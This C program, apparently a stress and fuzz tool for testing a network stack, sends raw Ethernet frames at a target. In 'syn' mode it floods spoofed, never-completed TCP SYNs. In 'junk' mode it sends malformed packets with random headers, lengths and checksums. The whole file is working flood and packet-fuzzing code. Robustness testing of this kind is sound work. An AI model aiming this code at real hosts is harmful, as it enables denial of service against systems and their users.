// Hostile packets from one interface:   attack IF MAC ADDRESS PORT syn|junk SECONDS PER_SECOND SEED
// `syn`: calls from addresses that nobody has, never completed. `junk`: packets of TCP, UDP, ICMP, ARP, IPv6 and fragments with
// random fields, lengths and checksums, many of them of the connections that are open.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t seed;
static uint32_t rnd(void) {
    seed ^= seed >> 12, seed ^= seed << 25, seed ^= seed >> 27;
    return seed * 0x2545f4914f6cdd1dull >> 32;
}

static uint16_t sum(const unsigned char *p, int n, uint32_t s) {
    for (int i = 0; i < n; i++) s += i & 1 ? p[i] : p[i] << 8;
    while (s >> 16) s = (s & 0xffff) + (s >> 16);
    return ~s;
}

static void put16(unsigned char *p, uint16_t v) { p[0] = v >> 8, p[1] = v; }
static void put32(unsigned char *p, uint32_t v) { put16(p, v >> 16), put16(p + 2, v); }

// An IPv4 packet with a TCP header, checksums right.
static int tcp(unsigned char *ip, uint32_t from, uint32_t to, uint16_t sport, uint16_t dport, int flags, int data) {
    int len = 40 + data;
    memset(ip, 0, 40);
    ip[0] = 0x45, ip[8] = 64, ip[9] = 6;
    put16(ip + 2, len), put16(ip + 4, rnd()), put32(ip + 12, from), put32(ip + 16, to);
    put16(ip + 10, sum(ip, 20, 0));
    unsigned char *t = ip + 20;
    put16(t, sport), put16(t + 2, dport), put32(t + 4, rnd()), put32(t + 8, flags & 16 ? rnd() : 0);
    t[12] = 0x50, t[13] = flags, put16(t + 14, 65535);
    for (int i = 0; i < data; i++) t[20 + i] = rnd();
    uint32_t pseudo = (from >> 16) + (from & 0xffff) + (to >> 16) + (to & 0xffff) + 6 + 20 + data;
    put16(t + 16, sum(t, 20 + data, pseudo));
    return len;
}

int main(int argc, char **argv) {
    if (argc != 9) return 2;
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll a = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[1]), .sll_halen = 6};
    unsigned m[6];
    if (sscanf(argv[2], "%x:%x:%x:%x:%x:%x", m, m + 1, m + 2, m + 3, m + 4, m + 5) != 6) return 2;
    uint32_t to = ntohl(inet_addr(argv[3])), from = (to & ~255u) + 1;
    int port = atoi(argv[4]), junk = !strcmp(argv[5], "junk");
    double seconds = atof(argv[6]), rate = atof(argv[7]);
    seed = atoll(argv[8]) * 2 + 1;
    unsigned char b[2048] = {0};
    unsigned long sent = 0;
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        double t = now.tv_sec - start.tv_sec + (now.tv_nsec - start.tv_nsec) / 1e9;
        if (t > seconds) break;
        if (sent > t * rate) {
            usleep(500);
            continue;
        }
        for (int i = 0; i < 6; i++) b[i] = m[i], b[6 + i] = i == 0 ? 2 : i;
        put16(b + 12, ETH_P_IP);
        unsigned char *ip = b + 14;
        int len;
        if (!junk) {
            len = tcp(ip, 0xc6120000 | (rnd() & 0x1ffff), to, 1024 + rnd() % 60000, port, 2, 0);
        } else {
            uint32_t kind = rnd() % 8;
            static const uint16_t types[] = {ETH_P_IP, ETH_P_ARP, ETH_P_IPV6, 0x8100};
            len = tcp(ip, from, to, 32768 + rnd() % 28000, port, rnd() & 63, rnd() % 1200);
            if (kind == 0) put16(b + 12, types[rnd() % 4]);
            if (kind == 1) ip[9] = (int[]){1, 2, 17, 58, 136, 255}[rnd() % 6], put16(ip + 10, 0), put16(ip + 10, sum(ip, 20, 0));
            if (kind == 2) put16(ip + 6, rnd() & 0x3fff), put16(ip + 10, 0), put16(ip + 10, sum(ip, 20, 0));
            if (kind == 3) len = rnd() % (len + 1);
            if (kind == 4) put16(ip + 2, rnd() & 0x7ff), put16(ip + 10, 0), put16(ip + 10, sum(ip, 20, 0));
            if (kind == 5) ip[32] = rnd();
            if (kind == 6) for (int i = rnd() % 8; i >= 0; i--) ip[rnd() % 60] = rnd();
            if (kind == 7) ip[0] = 0x45 + rnd() % 11, put16(ip + 10, 0), put16(ip + 10, sum(ip, 20, 0));
        }
        if (sendto(fd, b, 14 + len, 0, (void *)&a, sizeof a) > 0) sent++;
    }
    printf("%lu packets\n", sent);
    return sent < 1000;
}
